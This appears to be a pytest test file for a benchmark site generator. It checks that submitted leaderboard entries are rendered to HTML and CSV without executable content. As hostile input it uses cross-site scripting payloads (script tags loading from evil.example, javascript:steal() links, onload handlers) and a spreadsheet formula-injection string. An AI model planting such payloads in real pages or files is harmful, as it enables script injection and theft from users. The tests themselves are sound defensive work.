"""What outsiders send is made into pages, and the pages are read again as a browser would."""

import csv
import json

import pytest
import torch
from test_board import entry, row

from hardsight.benchmark import Entry, write_site
from hardsight.benchmark.entry import PICTURES, REPORT, beside
from hardsight.evaluation.results import Corrupted, Estimate
from hardsight.reports.pictures import embedded, photo
from page_read import Read

NAME = '"><script src=//e.example>'
EVIL = '"><script src="//evil.example/x.js"></script><a href="javascript:steal()">'
FORMULA = '=HYPERLINK("//evil.example")'


def hostile(**others):
    """An entry whose every text tries to be markup."""
    facts = {"split_sha256": EVIL, "test_images": 2, "anomalous": 1, "note": EVIL}
    values = {
        "method": f"evil{NAME}",
        "preset": EVIL,
        "backbone": EVIL,
        "weights": FORMULA,
        "data": {"name": NAME, "category": NAME, **facts},
        "threat": {"norm": NAME, "suites": [EVIL]},
        "attacked": [row("pgd", 0.5, published=0.4, place=EVIL), row(EVIL, 0.4, published=0.1)],
        "corrupted": [Corrupted(EVIL, 1, Estimate(0.5, 0.5, 0.5), 0.0)],
        "checkpoints": {EVIL: EVIL},
        "notes": [EVIL],
        "made": {"hardsight": FORMULA, "torch": EVIL, "hardware": EVIL},
    }
    return entry(**(values | others))


def shown(**others):
    values = {
        "name": EVIL,
        "truth": EVIL,
        "score": EVIL,
        "badge": None,
        "pictures": [[EVIL, embedded(photo(torch.rand(3, 8, 8)))]],
        "small": True,
    }
    return json.dumps({"attack": EVIL, "images": [values | others]})


@pytest.fixture(scope="module")
def sent(tmp_path_factory):
    """The folder of hostile entries, with a report and pictures beside, and its pages."""
    folder = tmp_path_factory.mktemp("hostile")
    path = hostile().write(folder / "sent/one.entry.json")
    hostile(method=f"{FORMULA} clean", attacked=[], threat={"suites": []}).write(
        folder / "sent/two.entry.json"
    )
    beside(path, REPORT).write_text(f"<h1 onload=steal()>report</h1><p>{EVIL}", encoding="utf-8")
    beside(path, PICTURES).write_text(shown(), encoding="utf-8")
    write_site(folder / "sent", folder / "site")
    return folder / "site"


def test_nothing_sent_is_a_script_or_leads_away(sent):
    pages = sorted(sent.rglob("*.html"))
    assert len(pages) == 3  # the board, the method and its report
    own = {"index.html": 1}  # the script by which the board sorts
    for page in pages:
        read = Read(page.read_text(encoding="utf-8"))
        scripts = [event for event in read.events if event[:2] == ("start", "script")]
        assert scripts == [("start", "script", [])] * own.get(page.name, 0)
        assert not [name for name, _ in read.attributes if name.startswith("on")]
        assert not {"iframe", "object", "embed", "base", "link"} & read.tags
        for name, value in read.attributes:
            if name == "href":
                assert (page.parent / value.split("#")[0]).exists(), value
            if name in ("src", "action", "formaction", "xlink:href"):
                assert value.startswith(("data:image/jpeg;base64,", "#")), value
        policy = next(
            value for name, value in read.attributes if name == "content" and "src" in value
        )
        assert policy.startswith(
            "default-src 'none'; script-src 'sha256-"
            if scripts
            else "default-src 'none'; script-src 'none'"
        )
    assert "report" in Read(pages[-1].read_text(encoding="utf-8")).text


def test_what_was_sent_is_there_as_text(sent):
    (method,) = (sent / "methods").iterdir()
    text = Read(method.read_text(encoding="utf-8")).text
    flat = " ".join(EVIL.split())
    assert text.count(flat) > 10


def test_no_cell_of_a_table_is_a_formula(sent):
    for name in ("board.csv", "clean.csv"):
        with (sent / name).open(encoding="utf-8", newline="") as file:
            (line,) = csv.DictReader(file)
        assert line["weights"] == line["hardsight"] == f"'{FORMULA}"
        assert not [cell for cell in line.values() if cell.startswith(("=", "+", "@", "\t"))]
    values = json.loads((sent / "clean.json").read_text(encoding="utf-8"))
    assert values[0]["weights"] == FORMULA


@pytest.mark.parametrize(
    "pictures",
    [
        [["input", "https://evil.example/dot.png"]],
        [["input", "data:image/svg+xml;base64,PHN2Zz4="]],
        [["input", "data:image/jpeg;base64,bm90aGluZw=="]],
    ],
)
def test_what_is_no_picture_is_refused_by_its_file(tmp_path, pictures):
    path = entry(attacked=[row("pgd", 0.5)]).write(tmp_path / "a.entry.json")
    beside(path, PICTURES).write_text(shown(pictures=pictures), encoding="utf-8")
    with pytest.raises(ValueError, match=r"a\.pictures\.json .* no embedded JPEG picture; leave"):
        write_site(tmp_path, tmp_path / "site")


@pytest.mark.parametrize("ending", [PICTURES, REPORT])
def test_a_link_beside_an_entry_is_refused(tmp_path, ending):
    path = entry(attacked=[row("pgd", 0.5)]).write(tmp_path / "a.entry.json")
    beside(path, ending).symlink_to(__file__)
    with pytest.raises(ValueError, match="is a symbolic link"):
        write_site(tmp_path, tmp_path / "site")


def test_no_method_takes_the_page_of_another(tmp_path):
    for k, method in enumerate(("patchcore", "PatchCore!")):
        entry(method, attacked=[row("pgd", 0.5)]).write(tmp_path / f"{k}.entry.json")
    with pytest.raises(ValueError, match=r"'patchcore' and 'PatchCore!' would have one page"):
        write_site(tmp_path, tmp_path / "site")
    assert not (tmp_path / "site").exists()


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda values: values.update(clean=[]), "clean: .*at least 1"),
        (lambda values: values.update(method="!?"), "method='!\\?' has no letter"),
        (lambda values: values.update(method="x" * 200), "takes 2\\d\\d bytes; at most 200"),
        (lambda values: values["threat"].update(eps="much"), "eps='much' is not a number"),
        (lambda values: values["attacked"][1].update(mean=[5, 5, 5]), r"AUROC of pgd is 5, not in"),
        (lambda values: values["attacked"][1].update(published=float("nan")), "finite"),
        (lambda values: values["attacked"][1].update(seconds_per_image=float("inf")), "finite"),
        (lambda values: values.update(audit={"verdict": "superb"}), "audit.verdict: .*'pass'"),
    ],
)
def test_figures_that_are_none_are_refused(tmp_path, change, said):
    values = entry(attacked=[row("pgd", 0.5)]).model_dump(mode="json")
    change(values)
    path = tmp_path / "a.entry.json"
    path.write_text(json.dumps(values), encoding="utf-8")
    with pytest.raises(ValueError, match=f"a.entry.json is not an entry: .*{said}"):
        Entry.read(path)
